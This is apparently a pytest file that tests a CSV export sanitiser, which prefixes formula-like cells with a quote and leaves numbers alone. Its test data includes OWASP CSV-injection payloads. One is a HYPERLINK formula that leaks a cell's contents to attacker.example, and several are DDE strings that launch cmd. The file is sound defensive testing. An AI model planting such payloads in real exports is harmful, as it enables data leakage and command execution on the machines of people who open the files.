"""CSV exports a spreadsheet opens as data: formula-like text is neutralised, numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from query_engine.reports.csv_export import neutralise_cell, safe_csv
from query_engine.spec.query import ColumnInfo
from router import LedgerRow, UsageLedger

# OWASP's CSV-injection payloads, and the tab and carriage-return prefixes its rule also names.
PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cell_that_would_run_gets_a_leading_quote(payload):
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ["-12.5", "+3", "-1,234.50", "-0.5%", "+1e-3", "-7"])
def test_csv_plain_number_written_as_text_is_left_alone(text):
    assert neutralise_cell(text) == text


@pytest.mark.parametrize("value", [-12.5, -3, 0, None, "Brand Search", "Q4_Sale (EU) #2", "a=b", "x-y"])
def test_csv_numbers_and_ordinary_text_are_unchanged(value):
    assert neutralise_cell(value) == value


def test_csv_frame_neutralises_text_cells_and_headers_and_keeps_numbers():
    frame = pd.DataFrame({"campaign": list(PAYLOADS) + ["-12.5", "Brand"],
                          "=spend": [-1.5, 2.25, 3.0, -4.0, 5.5, 6.0, -7.25, 8.0],
                          "clicks": [-1, 2, 3, 4, 5, 6, 7, 8]})
    rows = parsed(safe_csv(frame))
    assert rows[0] == ["campaign", "'=spend", "clicks"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS] + ["-12.5", "Brand"]
    assert [float(r[1]) for r in rows[1:]] == [-1.5, 2.25, 3.0, -4.0, 5.5, 6.0, -7.25, 8.0]
    assert [int(r[2]) for r in rows[1:]] == [-1, 2, 3, 4, 5, 6, 7, 8]


def test_csv_rows_follow_the_column_order_and_leave_missing_cells_empty():
    text = safe_csv([{"b": -2, "a": "@SUM(A1)"}, {"a": "ok"}], columns=["a", "b"])
    assert parsed(text) == [["a", "b"], ["'@SUM(A1)", "-2"], ["ok", ""]]


def test_csv_rows_need_their_column_names():
    with pytest.raises(ValueError, match="column names"):
        safe_csv([{"a": 1}])


def test_csv_answer_download_is_neutralised_and_rounded():
    from ui.answer_view import csv_bytes

    frame = pd.DataFrame({"campaign": ["=HYPERLINK(\"http://attacker.example\")", "-2+3", "Brand"],
                          "spend": [-12.499999, 3.333333, 10.0], "roas": [-1.23456789, 2.0, 0.5]})
    columns = (ColumnInfo("campaign", "dimension", "Campaign", "text"),
               ColumnInfo("spend", "metric", "Spend", "currency"), ColumnInfo("roas", "metric", "ROAS", "ratio"))
    rows = parsed(csv_bytes(frame, columns).decode("utf-8"))
    assert rows == [["campaign", "spend", "roas"], ["'=HYPERLINK(\"http://attacker.example\")", "-12.5", "-1.23457"],
                    ["'-2+3", "3.33", "2.0"], ["Brand", "10.0", "0.5"]]


def test_csv_usage_ledger_download_is_neutralised(tmp_path):
    from router.usage_ledger import COLUMNS
    from ui.cost_usage_view import ledger_csv

    ledger = UsageLedger(tmp_path / "usage.sqlite")
    ledger.record(LedgerRow(task="sql_generation", route="primary", model="openai/gpt-5.1", provider="openai",
                            status="error", question_id="@SUM(1+1)*cmd|' /C calc'!A0", input_tokens=12,
                            actual_cost_usd=0.25, error_class="=HYPERLINK(\"http://attacker.example\")"))
    rows = parsed(ledger_csv(ledger))
    assert rows[0] == list(COLUMNS)
    row = dict(zip(rows[0], rows[1], strict=False))
    assert row["question_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["error_class"] == "'=HYPERLINK(\"http://attacker.example\")"
    assert (int(row["input_tokens"]), float(row["actual_cost_usd"]), row["model"]) == (12, 0.25, "openai/gpt-5.1")
